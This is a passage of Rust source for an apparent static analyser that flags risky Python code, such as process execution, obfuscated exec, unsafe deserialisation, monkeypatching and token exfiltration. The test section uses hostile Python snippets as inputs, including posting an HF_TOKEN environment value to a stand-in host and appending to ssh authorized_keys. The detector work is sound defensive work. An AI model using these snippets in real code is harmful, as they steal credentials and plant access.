                        .and_then(string_literal)
                        .unwrap_or_default();
                    let full = if attr.is_empty() {
                        target.clone()
                    } else {
                        join_attr(&target, &attr)
                    };
                    if is_patch_target(&target) || is_patch_target(&full) {
                        self.report(TAMPER, format!("setattr patches {full}"), &full, offset);
                    }
                }
            }
            Condition::EnvRead => {
                self.env_read.get_or_insert((name, offset));
            }
        }
    }

    fn mentions_sensitive_path(&self, expr: &Expr) -> bool {
        // Any string literal in the expression's source text.
        let range = expr.range();
        let text = self
            .text
            .get(range.start().to_usize()..range.end().to_usize())
            .unwrap_or("");
        SENSITIVE_PATHS.iter().any(|p| text.contains(p))
    }

    fn check_assign_target(&mut self, target: &Expr) {
        let offset = target.range().start().to_usize();
        match target {
            Expr::Attribute(_) => {
                if let Some(name) = self.qualify(target)
                    && is_patch_target(&name)
                {
                    self.report(
                        TAMPER,
                        format!("assigns to {name} (monkeypatch)"),
                        &name,
                        offset,
                    );
                }
            }
            Expr::Subscript(s) => {
                if let Some(base) = self.qualify(&s.value)
                    && (base == "sys.modules" || base == "builtins")
                {
                    self.report(TAMPER, format!("assigns into {base}"), &base, offset);
                }
            }
            Expr::Tuple(t) => {
                for e in &t.elts {
                    self.check_assign_target(e);
                }
            }
            Expr::List(t) => {
                for e in &t.elts {
                    self.check_assign_target(e);
                }
            }
            _ => {}
        }
    }
}

/// True for expressions read (not assigned or deleted).
fn is_load(expr: &Expr) -> bool {
    match expr {
        Expr::Name(n) => n.ctx.is_load(),
        Expr::Attribute(a) => a.ctx.is_load(),
        Expr::Subscript(s) => s.ctx.is_load(),
        _ => false,
    }
}

/// Excludes constants and exception classes (`subprocess.PIPE`, `CalledProcessError`) from
/// "callable passed as a value" reports.
fn looks_like_function(name: &str) -> bool {
    let last = name.rsplit('.').next().unwrap_or(name);
    let constant = last
        .chars()
        .all(|c| c.is_ascii_uppercase() || c == '_' || c.is_ascii_digit());
    let exception = ["Error", "Exception", "Expired", "Warning"]
        .iter()
        .any(|s| last.ends_with(s));
    !constant && !exception
}

fn is_patch_target(name: &str) -> bool {
    PATCH_TARGETS.iter().any(|p| pattern_matches(p, name))
}

fn describe(rule: &str) -> &'static str {
    match rule {
        PROC => "runs a process",
        DYN => "runs dynamic code",
        NET => "network access",
        DESER => "unsafe deserialisation",
        NATIVE => "native code",
        TAMPER => "runtime tampering",
        _ => "risky call",
    }
}

pub(crate) fn is_literal(expr: &Expr) -> bool {
    matches!(expr, Expr::StringLiteral(_) | Expr::BytesLiteral(_))
}

pub(crate) fn keyword_is_true(call: &ruff_python_ast::ExprCall, key: &str) -> bool {
    call.arguments.keywords.iter().any(|k| {
        k.arg.as_ref().is_some_and(|a| a.as_str() == key)
            && matches!(&k.value, Expr::BooleanLiteral(b) if b.value)
    })
}

fn opens_for_writing(call: &ruff_python_ast::ExprCall) -> bool {
    let mode = call
        .arguments
        .keywords
        .iter()
        .find(|k| k.arg.as_ref().is_some_and(|a| a.as_str() == "mode"))
        .map(|k| &k.value)
        .or_else(|| call.arguments.args.get(1));
    match mode {
        Some(Expr::StringLiteral(s)) => s
            .value
            .to_str()
            .chars()
            .any(|c| matches!(c, 'w' | 'a' | 'x' | '+')),
        // A computed mode or flags (os.open) could be anything.
        Some(_) => true,
        None => false,
    }
}

impl<'a> Visitor<'a> for Checker<'_> {
    fn visit_stmt(&mut self, stmt: &'a Stmt) {
        if !admit_node(
            self.depth,
            &mut self.nodes,
            self.limits,
            &mut self.truncated,
        ) {
            return;
        }
        match stmt {
            Stmt::Assign(assign) => {
                for t in &assign.targets {
                    self.check_assign_target(t);
                }
                if self.is_decoded(&assign.value, 0) {
                    for t in &assign.targets {
                        if let Expr::Name(n) = t
                            && self.decoded_vars.len() < 10_000
                        {
                            self.decoded_vars.insert(n.id.to_string());
                        }
                    }
                }
            }
            Stmt::AugAssign(a) => self.check_assign_target(&a.target),
            Stmt::AnnAssign(a) if a.value.is_some() => {
                self.check_assign_target(&a.target);
            }
            Stmt::Import(import) => {
                for alias in &import.names {
                    let name = alias.name.as_str();
                    if pattern_matches("ctypes*", name) || pattern_matches("cffi*", name) {
                        let offset = alias.range.start().to_usize();
                        self.report(NATIVE, format!("imports {name}"), name, offset);
                    }
                }
            }
            _ => {}
        }
        self.depth += 1;
        visitor::walk_stmt(self, stmt);
        self.depth -= 1;
    }

    fn visit_expr(&mut self, expr: &'a Expr) {
        if !admit_node(
            self.depth,
            &mut self.nodes,
            self.limits,
            &mut self.truncated,
        ) {
            return;
        }
        match expr {
            Expr::Call(call) => {
                self.called.insert(u32::from(call.func.range().start()));
                self.check_call(call);
            }
            Expr::Name(_) | Expr::Attribute(_) | Expr::Subscript(_) => {
                let start = u32::from(expr.range().start());
                if !self.called.contains(&start)
                    && let Some(name) = self.qualify(expr)
                    && let Some(rule) = lookup(&name)
                {
                    if rule.condition == Condition::EnvRead {
                        self.env_read.get_or_insert((name, start as usize));
                    } else if rule.rule == PROC
                        || (rule.rule == DYN && rule.condition == Condition::DynamicCode)
                    {
                        // A process/eval callable passed around as a value
                        // (`map(os.system, cmds)`, default arguments, aliases).
                        let module_only = rule.pattern.strip_suffix(".*") == Some(name.as_str());
                        if is_load(expr) && !module_only && looks_like_function(&name) {
                            self.report(
                                rule.rule,
                                format!("references {name} as a value"),
                                &name,
                                start as usize,
                            );
                        }
                    }
                }
            }
            _ => {}
        }
        self.depth += 1;
        // Do not descend into attribute chains already resolved as a whole: only the callee
        // marker matters for them, and their bases are plain names.
        visitor::walk_expr(self, expr);
        self.depth -= 1;
    }
}

// ---------------------------------------------------------------------------
// Line index and nesting pre-scan
// ---------------------------------------------------------------------------

/// Maps byte offsets to 1-based line and column numbers.
#[derive(Debug, Clone)]
pub struct LineIndex {
    starts: Vec<usize>,
    text_len: usize,
}

impl LineIndex {
    /// Builds the index for `text`.
    pub fn new(text: &str) -> Self {
        let mut starts = vec![0];
        starts.extend(
            text.bytes()
                .enumerate()
                .filter(|(_, b)| *b == b'\n')
                .map(|(i, _)| i + 1),
        );
        LineIndex {
            starts,
            text_len: text.len(),
        }
    }

    /// 1-based (line, column in bytes) of `offset`.
    pub fn line_col(&self, offset: usize) -> (usize, usize) {
        let offset = offset.min(self.text_len);
        let line = match self.starts.binary_search(&offset) {
            Ok(i) => i,
            Err(i) => i.saturating_sub(1),
        };
        let start = self.starts.get(line).copied().unwrap_or(0);
        (line + 1, offset - start + 1)
    }
}

/// Conservative estimate of the syntactic nesting depth of `src`: bracket depth plus, per
/// comma-separated segment, the operators and prefix keywords that each add a tree level
/// (left-associative chains, unary prefixes, ternaries, lambdas), plus indentation levels.
pub fn estimate_nesting(src: &[u8]) -> u32 {
    let mut stack = Nest::default();
    let mut indents: Vec<usize> = vec![0];
    let mut max: u32 = 0;
    let mut i = 0usize;
    let mut line_start = true;
    let n = src.len();
    // End offset of the last identifier and whether it is an f/t-string prefix.
    let mut prefix_end = usize::MAX;
    let mut prefix_is_fstring = false;
    let current = |stack: &Nest, indents: &Vec<usize>| -> u32 {
        let total = stack
            .sum
            .saturating_add(stack.counts.len() as u64)
            .saturating_add(indents.len() as u64);
        u32::try_from(total).unwrap_or(u32::MAX)
    };
    while i < n {
        let b = src.get(i).copied().unwrap_or(b'\n');
        if line_start && stack.counts.len() == 1 {
            // Measure indentation of a logical line.
            let mut width = 0usize;
            let mut j = i;
            while let Some(&c) = src.get(j) {
                match c {
                    b' ' => width += 1,
                    b'\t' => width = (width / 8 + 1) * 8,
                    b'\x0c' => {}
                    _ => break,
                }
                j += 1;
            }
            let next = src.get(j).copied();
            if !matches!(next, Some(b'\n' | b'\r' | b'#') | None) {
                while indents.last().is_some_and(|&w| w > width) {
                    indents.pop();
                }
                if indents.last().is_some_and(|&w| w < width) {
                    indents.push(width);
                }
            }
            line_start = false;
            i = j;
            continue;
        }
        match b {
            b'#' => {
                while i < n && src.get(i) != Some(&b'\n') {
                    i += 1;
                }
                continue;
            }
            b'\\' => {
                // Line continuation: skip the escaped newline.
                i += 2;
                continue;
            }
            b'\n' if stack.counts.len() == 1 => {
                stack.reset_top();
                line_start = true;
            }
            b'\'' | b'"' => {
                // f/t-string replacement fields nest expressions; other strings are opaque.
                let interpolated = prefix_end == i && prefix_is_fstring;
                let (end, brace_depth) = skip_string(src, i, interpolated);
                let est = current(&stack, &indents).saturating_add(brace_depth);
                max = max.max(est);
                i = end;
                continue;
            }
            b'(' | b'[' | b'{' => stack.push(),
            b')' | b']' | b'}' => {
                stack.pop();
                // The closed group becomes an operand (a call or subscript chain adds a level).
                stack.bump();
            }
            b',' | b':' | b';' => {
                stack.reset_top();
            }
            b'+' | b'-' | b'*' | b'/' | b'%' | b'@' | b'&' | b'|' | b'^' | b'~' | b'<' | b'>'
            | b'.' | b'!' => {
                stack.bump();
            }
            c if c.is_ascii_alphabetic() || c == b'_' => {
                let start = i;
                while src
                    .get(i)
                    .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_')
                {
                    i += 1;
                }
                let word = src.get(start..i).unwrap_or_default();
                prefix_end = i;
                prefix_is_fstring = word.len() <= 3
                    && word.iter().all(|c| b"rRbBuUfFtT".contains(c))
                    && word.iter().any(|c| b"fFtT".contains(c));
                // String prefixes (f"", rb'' …) are handled by the quote branch.
                if matches!(
                    word,
                    b"not" | b"lambda" | b"if" | b"await" | b"yield" | b"else" | b"in" | b"is"
                ) {
                    stack.bump();
                }
                max = max.max(current(&stack, &indents));
                continue;
            }
            _ => {}
        }
        max = max.max(current(&stack, &indents));
        i += 1;
    }
    max
}

/// Per-bracket-level operator counts with their running sum (O(1) per byte).
struct Nest {
    counts: Vec<u32>,
    sum: u64,
}

impl Default for Nest {
    fn default() -> Self {
        Nest {
            counts: vec![0],
            sum: 0,
        }
    }
}

impl Nest {
    fn bump(&mut self) {
        if let Some(top) = self.counts.last_mut() {
            *top = top.saturating_add(1);
            self.sum = self.sum.saturating_add(1);
        }
    }

    fn reset_top(&mut self) {
        if let Some(top) = self.counts.last_mut() {
            self.sum = self.sum.saturating_sub(u64::from(*top));
            *top = 0;
        }
    }

    fn push(&mut self) {
        self.counts.push(0);
    }

    fn pop(&mut self) {
        if self.counts.len() > 1
            && let Some(top) = self.counts.pop()
        {
            self.sum = self.sum.saturating_sub(u64::from(top));
        }
    }
}

/// Skips a string starting at the quote at `i`; returns the end offset and the deepest
/// `{` nesting seen inside (replacement fields of f/t-strings; counted for every string,
/// which over-estimates only).
fn skip_string(src: &[u8], i: usize, interpolated: bool) -> (usize, u32) {
    let q = src.get(i).copied().unwrap_or(b'"');
    let triple = src.get(i + 1) == Some(&q) && src.get(i + 2) == Some(&q);
    let mut j = if triple { i + 3 } else { i + 1 };
    // Replacement-field nesting and operators inside the current field.
    let mut depth: u32 = 0;
    let mut ops: u32 = 0;
    let mut max: u32 = 0;
    while let Some(&c) = src.get(j) {
        match c {
            b'\\' => {
                j += 2;
                continue;
            }
            b'{' | b'}' | b'(' | b')' | b'[' | b']' if !interpolated => {}
            b'{' if depth == 0 && src.get(j + 1) == Some(&b'{') => {
                j += 2;
                continue;
            }
            b'{' | b'(' | b'[' if depth > 0 || c == b'{' => {
                depth = depth.saturating_add(1);
            }
            b'}' | b')' | b']' => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    ops = 0;
                } else {
                    ops = ops.saturating_add(1);
                }
            }
            b'+' | b'-' | b'*' | b'/' | b'%' | b'@' | b'&' | b'|' | b'^' | b'~' | b'<' | b'>'
            | b'.' | b'!' | b'=' | b' ' | b'\t'
                if depth > 0 =>
            {
                // Spaces too: keyword chains (`not not not x`) are space-separated.
                ops = ops.saturating_add(1);
            }
            b'\n' if !triple => return (j, max),
            c if c == q => {
                if !triple {
                    return (j + 1, max);
                }
                if src.get(j + 1) == Some(&q) && src.get(j + 2) == Some(&q) {
                    return (j + 3, max);
                }
            }
            _ => {}
        }
        max = max.max(depth.saturating_add(ops));
        j += 1;
    }
    (j, max)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(src: &str) -> Vec<&'static str> {
        analyze(src.as_bytes())
            .observations
            .iter()
            .map(|o| o.rule)
            .collect()
    }

    #[test]
    fn aliases_resolve() {
        assert!(rules("import os as o\no.system('id')").contains(&PROC));
        assert!(rules("from subprocess import Popen as P\nP(['id'])").contains(&PROC));
        assert!(rules("__import__('os').system('id')").contains(&PROC));
        assert!(
            rules("import importlib\nimportlib.import_module('os').popen('id')").contains(&PROC)
        );
        assert!(rules("getattr(__import__('os'), 'system')('id')").contains(&PROC));
        assert!(rules("from os import *\nsystem('id')").contains(&PROC));
        assert!(rules("import os\nf = os.system\nf('id')").contains(&PROC));
        assert!(rules("def f(x=__import__('os').system):\n    pass").contains(&PROC));
    }

    #[test]
    fn eval_variants() {
        assert!(rules("eval('1+1')").contains(&"python-literal-eval"));
        assert!(rules("x = input()\neval(x)").contains(&DYN));
        assert!(
            rules("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))")
                .contains(&"python-obfuscated-exec")
        );
        assert!(
            rules("import zlib, base64\np = zlib.decompress(base64.b64decode(s))\nexec(p)")
                .contains(&"python-obfuscated-exec")
        );
    }

    #[test]
    fn loads_and_conditions() {
        assert!(rules("import torch\ntorch.load('x')").contains(&DESER));
        assert!(!rules("import torch\ntorch.load('x', weights_only=True)").contains(&DESER));
        assert!(rules("import numpy as np\nnp.load('x', allow_pickle=True)").contains(&DESER));
        assert!(!rules("import numpy as np\nnp.load('x')").contains(&DESER));
        assert!(rules("import yaml\nyaml.load(s)").contains(&DESER));
        assert!(!rules("import yaml\nyaml.load(s, Loader=yaml.SafeLoader)").contains(&DESER));
    }

    #[test]
    fn tampering_and_writes() {
        assert!(rules("import builtins\nsetattr(builtins, 'open', f)").contains(&TAMPER));
        assert!(rules("import torch\ntorch.load = evil").contains(&TAMPER));
        assert!(rules("import sys\nsys.modules['x'] = y").contains(&TAMPER));
        assert!(rules("open('/home/u/.ssh/authorized_keys', 'a').write(k)").contains(&WRITE));
        assert!(!rules("open('/home/u/.ssh/known_hosts').read()").contains(&WRITE));
    }

    #[test]
    fn env_exfiltration() {
        let r = rules(
            "import os, requests\nt = os.environ['HF_TOKEN']\nrequests.post('http://x', data=t)",
        );
        assert!(r.contains(&"python-env-exfiltration"));
        assert!(r.contains(&NET));
    }

    #[test]
    fn benign_modelling_code_is_quiet() {
        let src = "import torch\nfrom torch import nn\nfrom transformers import PreTrainedModel\n\nclass M(PreTrainedModel):\n    def __init__(self, config):\n        super().__init__(config)\n        self.l = nn.Linear(4, 4)\n    def forward(self, x):\n        return self.l(x)\n";
        assert!(analyze(src.as_bytes()).observations.is_empty());
    }

    #[test]
    fn shadowing_and_constants() {
        assert!(!rules("def eval(x):\n    return x\neval(y)").contains(&DYN));
        let r = rules(
            "import subprocess\ntry:\n    pass\nexcept subprocess.CalledProcessError:\n    x = subprocess.PIPE",
        );
        assert!(r.is_empty(), "{r:?}");
        assert!(rules("from os import system\nlist(map(system, cmds))").contains(&PROC));
    }

    #[test]
    fn syntax_errors_recover() {
        let a = analyze(b"import os\nos.system('id')\ndef f(:\n");
        let r: Vec<_> = a.observations.iter().map(|o| o.rule).collect();
        assert!(r.contains(&"python-syntax-error"));
        assert!(r.contains(&PROC));
    }

    #[test]
    fn deep_nesting_is_refused() {
        let deep = format!("x = {}1{}", "(".repeat(5000), ")".repeat(5000));
        let a = analyze(deep.as_bytes());
        assert!(a.incomplete.is_some());
        let chain = format!("x = 1{}", "+1".repeat(100_000));
        assert!(analyze(chain.as_bytes()).incomplete.is_some());
        let nots = format!("x = {}1", "not ".repeat(10_000));
        assert!(analyze(nots.as_bytes()).incomplete.is_some());
        let fstr = format!("x = f'{{{}1{}}}'", "(".repeat(5000), ")".repeat(5000));
        assert!(analyze(fstr.as_bytes()).incomplete.is_some());
        let fstr = format!("x = f'{{{}1}}'", "not ".repeat(5000));
        assert!(analyze(fstr.as_bytes()).incomplete.is_some());
        let attrs = format!("x = a{}", ".b".repeat(50_000));
        assert!(analyze(attrs.as_bytes()).incomplete.is_some());
    }

    #[test]
    fn plain_strings_are_opaque() {
        let doc = format!(
            "def f():\n    \"\"\"Use {{x{}\"\"\"\n    return 1\n",
            " word".repeat(2000)
        );
        assert!(estimate_nesting(doc.as_bytes()) < 20);
        assert!(analyze(doc.as_bytes()).incomplete.is_none());
        let f = format!("x = rf'{{{}1{}}}'", "(".repeat(500), ")".repeat(500));
        assert!(estimate_nesting(f.as_bytes()) > 400);
    }

    #[test]
    fn nesting_scan_is_linear() {
        let src = "(".repeat(4 * 1024 * 1024);
        let start = std::time::Instant::now();
        assert!(estimate_nesting(src.as_bytes()) > 1000);
        assert!(start.elapsed().as_secs() < 5);
    }

    #[test]
    fn line_and_column() {
        let a = analyze(b"import os\n\n  \nif 1:\n    os.system('x')\n");
        let o = a
            .observations
            .iter()
            .find(|o| o.rule == PROC)
            .expect("found");
        assert_eq!(o.evidence.get("line").map(String::as_str), Some("5"));
        assert_eq!(o.evidence.get("column").map(String::as_str), Some("5"));
    }
}
